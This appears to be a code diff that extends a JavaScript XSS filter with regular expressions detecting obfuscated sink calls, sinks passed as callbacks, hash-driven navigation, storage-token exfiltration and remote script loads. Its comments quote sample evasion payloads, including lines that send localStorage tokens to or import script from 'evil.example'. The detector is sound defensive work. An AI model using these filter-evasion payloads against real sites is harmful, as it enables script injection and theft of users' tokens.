@@ -8,9 +8,12 @@ import { noteReaderCap } from './reader-caps';
  * calling a function by a name computed from strings.
  */
 const GLOBAL_OBJECT = '(?:window|self|top|parent|frames|this|globalThis|opener|content|document|navigator|location)';
-/** `global[ <string, template, regex source, atob/fromCharCode, or a concatenation> ]` then a call. */
+/**
+ * `global[ <string, template, regex source, atob/fromCharCode, a concatenation, or a number spelled in
+ * another base: `8680439..toString(30)` is "alert"> ]` then a call.
+ */
 const COMPUTED_CALL = new RegExp(
-  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*\\[\\s*(?:['"\`/]|atob\\s*\\(|String\\s*\\.\\s*fromCharCode|unescape\\s*\\(|decodeURI|[\\w$]+\\s*\\+|\\(|!|\\[)[^\\]\\n]{0,300}\\]\\s*(?:\\(|\`|\\.\\s*(?:call|apply|bind)\\s*\\()`,
+  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*\\[\\s*(?:['"\`/]|atob\\s*\\(|String\\s*\\.\\s*fromCharCode|unescape\\s*\\(|decodeURI|[\\w$]+\\s*\\+|\\(|!|\\[|\\d+\\s*\\.\\.?\\s*toString\\s*\\()[^\\]\\n]{0,300}\\]\\s*(?:\\(|\`|\\.\\s*(?:call|apply|bind)\\s*\\()`,
 );
 /** A string-built name: pieces of a sink's name concatenated or taken from regex sources. */
 const BUILT_NAME = /\/\w{1,12}\/\s*\.\s*source\b|(['"`])[a-z]{1,6}\1\s*\+\s*(['"`])[a-z]{1,6}\2/i;
@@ -19,12 +22,71 @@ const CONSTRUCTOR_CHAIN =
 const JSFUCK_CHARS = /[[\]()!+]/g;
 const FORM_NAME_PREFIX = /^[\w.-]{1,40}=/;
 
-/** A sink function given another name (`a=eval;b=alert;a(b(1))`, `_=eval,__=unescape`): code about to call it indirectly. */
-const SINK_ALIAS = /=\s*(?:eval|alert|prompt|confirm|execScript|unescape|Function|setTimeout|setInterval)\s*(?:[;,\n]|$)/;
+/**
+ * A sink function given another name (`a=eval;b=alert;a(b(1))`, `_=eval,__=unescape`, a handler in a
+ * block `{onerror=alert}throw 1`): code about to call it indirectly.
+ */
+const SINK_ALIAS = /=\s*(?:eval|alert|prompt|confirm|execScript|unescape|Function|setTimeout|setInterval)\s*(?:[;,}\n]|$)/;
 /** What stands left of SINK_ALIAS's `=`: a bare variable name (not `a.b=eval`, not `==`). */
 const ALIAS_NAME = /(?:^|[;,{(\s'"])[\w$]{1,20}\s*$/;
 /** A sink called with a comment between name and parenthesis (`eval/**\/(...)`). */
 const COMMENTED_CALL = /(?:^|[^\w$.])(?:eval|alert|prompt|confirm|Function|setTimeout|setInterval)\s*\/\*[^*]{0,40}\*\/\s*\(/;
+
+/**
+ * A sink reached as a member of the global object and called (`window.alert(1)`, `top.eval('...')`,
+ * ``self.confirm`1` ``): the same function as `alert(1)`, written so that a filter looking for the
+ * name after a non-name character misses it. `dialog.confirm(...)` of an application's own object
+ * is not one.
+ */
+const GLOBAL_SINK_CALL =
+  /(?:^|[^\w$.])(?:window|self|top|parent|frames|globalThis|opener)\s*\.\s*(?:alert|confirm|prompt|eval|execScript)\s*(?:\((?!\s*$)|`)/;
+/**
+ * A sink handed to what calls it (`[1].find(alert)`, `Reflect.apply(alert,null,[1])`,
+ * `'alert(1)'.replace(/.+/,eval)`, `setTimeout(alert)`, `addEventListener('load',alert)`), or made the
+ * getter or conversion of an object (`{get:alert}`, `{valueOf:alert}`): the call is never written, so
+ * no filter sees `alert(`. An application's code hands its own functions (`.then(render)`), not the
+ * dialogs or eval.
+ */
+const SINK_AS_CALLBACK =
+  /(?:\.\s*(?:map|flatMap|find|findIndex|findLast|forEach|filter|some|every|reduce|reduceRight|sort|then|catch|finally|replace|replaceAll|call|apply|bind|from|addEventListener)|(?:^|[^\w$.])(?:Reflect\s*\.\s*apply|setTimeout|setInterval|requestAnimationFrame|queueMicrotask|addEventListener))\s*\(\s*(?:[^,()\n]{0,60},\s*)?(?:(?:window|self|top|parent|globalThis)\s*\.\s*)?(?:alert|confirm|prompt|eval)\s*[,)]|[{,]\s*(?:get|set|valueOf|toString|handleEvent)\s*:\s*(?:alert|confirm|prompt|eval)\s*[,}]/;
+
+/**
+ * A global indexed by a variable that the value assigned a sink's name, then called
+ * (`x="alert";window[x](1)`, `n='ev'+'al';self[n]('...')` is BUILT_NAME's): the name is never next to
+ * the call. `handlers[name](e)` of ordinary code indexes its own table, not the global object.
+ */
+const VARIABLE_INDEXED_CALL = new RegExp(
+  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*\\[\\s*([A-Za-z_$][\\w$]{0,20})\\s*\\]\\s*(?:\\(|\`)`,
+);
+function callsAssignedSink(s: string): boolean {
+  const m = VARIABLE_INDEXED_CALL.exec(s);
+  if (m === null) return false;
+  const assigned = new RegExp(
+    `(?:^|[^\\w$.])${m[1].replace(/\$/g, '\\$')}\\s*=\\s*(['"\`])\\s*(?:alert|confirm|prompt|eval|execScript)\\s*\\1`,
+  );
+  return assigned.test(s);
+}
+/**
+ * Navigation to what the attacker controls in the page (`location=location.hash.slice(1)`,
+ * `location.href=document.referrer`): a `javascript:` URL sent in the fragment runs.
+ */
+const NAVIGATION_FROM_SOURCE =
+  /(?:^|[^\w$.])(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=(?!=)\s*(?:(?:window|self|top|document)\s*\.\s*)?(?:location\s*\.\s*(?:hash|search)|referrer|decodeURI(?:Component)?\s*\(\s*location|unescape\s*\(\s*location)/;
+/**
+ * Browser storage concatenated into a URL or handed to a beacon (`'//evil.example/?'+localStorage.token`,
+ * `sendBeacon('//x',sessionStorage.getItem('t'))`): tokens sent to another host, the payload of a
+ * script that needs no cookie.
+ */
+const STORAGE_EXFILTRATION =
+  /['"`]\s*\+\s*(?:window\s*\.\s*)?(?:localStorage|sessionStorage)\b|sendBeacon\s*\([^)]{0,200}\b(?:localStorage|sessionStorage|document\s*\.\s*cookie)\b/;
+
+/**
+ * Script loaded from another host by a scheme-relative or data URL (`import('//evil.example/x.js')`,
+ * `$.getScript('//x/a.js')`, `importScripts('data:...')`): a page's own code loads its modules by a
+ * path (`import('./module.js')`).
+ */
+const REMOTE_SCRIPT_LOAD =
+  /(?:^|[^\w$.])(?:import|importScripts|(?:\$|jQuery)\s*\.\s*getScript)\s*\(\s*['"`]\s*(?:\/\/|\\\\|data:)/;
 
 /** A number indexed by a computed name then called (`1[__+_](x)`, `0[this.x](this.y)`): no page code calls methods of a literal that way. */
 const LITERAL_COMPUTED_CALL = /(?:^|[^\w$.\]])\d+\s*\[[^\]\n]{0,50}[+'"`.][^\]\n]{0,50}\]\s*\(/;
@@ -44,7 +106,12 @@ export function isTaglessScript(s: string): boolean {
   )
     return true;
   if (s.includes('constructor') && CONSTRUCTOR_CHAIN.test(s)) return true;
-  if (s.includes('(') && SINK_FED_BY_SOURCE.test(s)) return true;
+  if (s.includes('(') && (SINK_FED_BY_SOURCE.test(s) || SINK_AS_CALLBACK.test(s))) return true;
+  if (s.includes('.') && GLOBAL_SINK_CALL.test(s)) return true;
+  if (s.includes('(') && REMOTE_SCRIPT_LOAD.test(s)) return true;
+  if (bracket && callsAssignedSink(s)) return true;
+  if (s.includes('location') && NAVIGATION_FROM_SOURCE.test(s)) return true;
+  if (s.includes('Storage') && STORAGE_EXFILTRATION.test(s)) return true;
   if ((s.includes("'") || s.includes('"') || s.includes('.source')) && spellsSink(s)) return true;
   return (s.includes('=') && sinkAlias(s)) || (s.includes('/*') && COMMENTED_CALL.test(s));
 }
